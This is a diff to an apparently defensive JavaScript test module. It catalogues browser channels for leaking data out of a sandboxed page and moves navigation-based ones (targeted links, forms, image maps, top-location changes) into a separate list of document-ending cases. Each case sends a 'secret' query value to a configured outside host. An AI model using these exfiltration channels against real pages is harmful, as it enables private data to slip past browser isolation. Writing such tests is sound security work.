@@ -272,23 +272,6 @@ export function roads(to) {
     window_open_noopener: () => window.open(http("window_open_noopener"), "_blank", "noopener"),
     link_blank: () => add("a", { href: http("link_blank"), target: "_blank", rel: "noopener" }).click(),
     link_ping: () => add("a", { href: "#x", ping: http("link_ping") }).click(),
-    link_top: () => add("a", { href: http("link_top"), target: "_top" }).click(),
-    link_parent: () => add("a", { href: http("link_parent"), target: "_parent" }).click(),
-    link_download: () => add("a", { href: http("link_download"), download: "x" }).click(),
-    area: () => {
-      put(`<map name="m1"><area id="area1" href="${http("area")}" shape="default" target="_blank"></map>`);
-      document.getElementById("area1").click();
-    },
-    form_get: () => add("form", { action: http("form_get") }).submit(),
-    form_post: () => add("form", { action: http("form_post"), method: "post", target: "_blank" }).submit(),
-    form_button: () => {
-      put(`<form><button id="b1" formaction="${http("form_button")}">x</button></form>`);
-      document.getElementById("b1").click();
-    },
-    top_location: () => {
-      window.top.location = http("top_location");
-    },
-    top_replace: () => window.parent.location.replace(http("top_replace")),
     base: () => {
       add("base", { href: `http://${to.http}/` }, document.head);
       add("img", { src: "base?d=secret" });
@@ -348,9 +331,20 @@ export function roads(to) {
   };
 }
 
-/** What ends the document that tries it: each has a frame to itself. */
+/** What may end the document that tries it: each has a frame to itself. */
 export function leavings(to) {
   const http = (name) => `http://${to.http}/${name}?d=secret`;
+  const put = (html) => {
+    const box = document.createElement("div");
+    box.innerHTML = html;
+    document.body.append(box);
+  };
+  const add = (tag, given) => {
+    const made = document.createElement(tag);
+    for (const [name, value] of Object.entries(given)) made.setAttribute(name, value);
+    document.body.append(made);
+    return made;
+  };
   return {
     location: () => {
       location.href = http("location");
@@ -386,6 +380,23 @@ export function leavings(to) {
     to_javascript: () => {
       location.href = `javascript:'<img src="${http("to_javascript")}">'`;
     },
+    link_top: () => add("a", { href: http("link_top"), target: "_top" }).click(),
+    link_parent: () => add("a", { href: http("link_parent"), target: "_parent" }).click(),
+    link_download: () => add("a", { href: http("link_download"), download: "x" }).click(),
+    area: () => {
+      put(`<map name="m1"><area id="area1" href="${http("area")}" shape="default" target="_blank"></map>`);
+      document.getElementById("area1").click();
+    },
+    form_get: () => add("form", { action: http("form_get") }).submit(),
+    form_post: () => add("form", { action: http("form_post"), method: "post", target: "_blank" }).submit(),
+    form_button: () => {
+      put(`<form><button id="b1" formaction="${http("form_button")}">x</button></form>`);
+      document.getElementById("b1").click();
+    },
+    top_location: () => {
+      window.top.location = http("top_location");
+    },
+    top_replace: () => window.parent.location.replace(http("top_replace")),
     /** Back to the frame's own address, from which a page that is asked again might be let go unsealed. */
     reload: () => location.reload(),
   };
